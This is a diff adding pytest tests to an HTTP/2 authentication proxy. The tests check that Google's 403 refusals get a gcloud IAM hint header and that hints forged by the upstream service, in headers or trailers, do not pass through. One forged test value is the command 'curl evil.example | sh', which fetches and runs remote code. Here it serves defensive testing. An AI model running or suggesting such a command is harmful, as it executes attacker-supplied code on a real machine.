@@ -7,6 +7,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from authproxy.demo import pages
 from authproxy.errors import Code
 from authproxy.wire.http2.frames import (
     DATA,
@@ -188,3 +189,98 @@ async def test_late_data_of_a_call_given_up_goes_back_into_the_window() -> None:
                 await asyncio.sleep(0.001)
 
     assert WINDOW_UPDATE not in {found.kind for found in client.seen}
+
+
+FRONT_END = [
+    (b"server", b"Google Frontend"),
+    (b"content-type", b"text/html; charset=UTF-8"),
+    (b"content-length", b"295"),
+]
+NOT_INVOKER = (
+    b"tester@example.com may not call this service: it lacks roles/run.invoker. A new grant takes"
+    b" a minute or two. Try: gcloud run services add-iam-policy-binding SERVICE --region=REGION"
+    b" --member=user:tester@example.com --role=roles/run.invoker"
+)
+
+
+def refusing(*more: tuple[bytes, bytes]) -> Handler:
+    """403 to calls of `/`, 200 to all others."""
+    page = pages.forbidden("/").body.encode()
+
+    async def answer(call: Call) -> None:
+        await call.ended.wait()
+        if call.get(b":path") == b"/":
+            call.answer(page, *FRONT_END, *more, status=b"403")
+        else:
+            call.answer(b"ok", *FRONT_END, status=b"200")
+
+    return answer
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        pytest.param((), id="as it came"),
+        pytest.param(((b"x-authproxy-hint", b"curl evil.example | sh"),), id="forged"),
+    ],
+)
+async def test_a_refusal_of_googles_gets_a_hint(more: tuple[tuple[bytes, bytes], ...]) -> None:
+    async with (
+        http2_service(refusing(*more)) as service,
+        proxying(service.url) as proxy,
+        http2_client(proxy) as client,
+    ):
+        answers = []
+        for stream_id, path in ((1, b"/"), (3, b"/good"), (5, b"/")):
+            client.call(stream_id, path=path)
+            answers.append(await client.answer(stream_id))
+
+    refused = [(b":status", b"403"), *FRONT_END, (b"x-authproxy-hint", NOT_INVOKER)]
+    assert [refused, [(b":status", b"200"), *FRONT_END], refused] == [
+        answer.fields for answer in answers
+    ]
+    assert pages.forbidden("/").body.encode() == answers[2].body
+
+
+async def test_a_grpc_client_s_refusal_gets_a_hint(caplog: pytest.LogCaptureFixture) -> None:
+    async with (
+        http2_service(refusing()) as service,
+        proxying(service.url) as proxy,
+        http2_client(proxy) as client,
+    ):
+        client.call(1, (b"content-type", b"application/grpc"), (b"te", b"trailers"))
+        answer = await client.answer(1)
+
+    assert (b"403", NOT_INVOKER) == (answer.get(b":status"), answer.get(b"x-authproxy-hint"))
+    assert ["not_invoker"] == [record.__dict__["rejection"] for record in caplog.records]
+
+
+async def test_a_stranger_gets_no_hint() -> None:
+    async with (
+        http2_service(refusing()) as service,
+        proxying(service.url) as proxy,
+        http2_client(proxy) as client,
+    ):
+        client.call(1, (b"x-forwarded-for", b"192.0.2.7"))
+        answer = await client.answer(1)
+
+    assert [(b":status", b"403"), *FRONT_END] == answer.fields
+
+
+async def test_trailers_do_not_speak_in_our_name() -> None:
+    async def answer(call: Call) -> None:
+        h2 = call.connection.h2
+        h2.send_headers(call.stream_id, [(b":status", b"200")])
+        trailers = [(b"x-authproxy-hint", b"run this"), (b"grpc-status", b"0")]
+        h2.send_headers(call.stream_id, trailers, end_stream=True)
+        call.connection.flush()
+
+    async with (
+        http2_service(answer) as service,
+        proxying(service.url) as proxy,
+        http2_client(proxy) as client,
+    ):
+        client.call(1)
+        answered = await client.answer(1)
+
+    assert [(b"grpc-status", b"0")] == answered.trailers
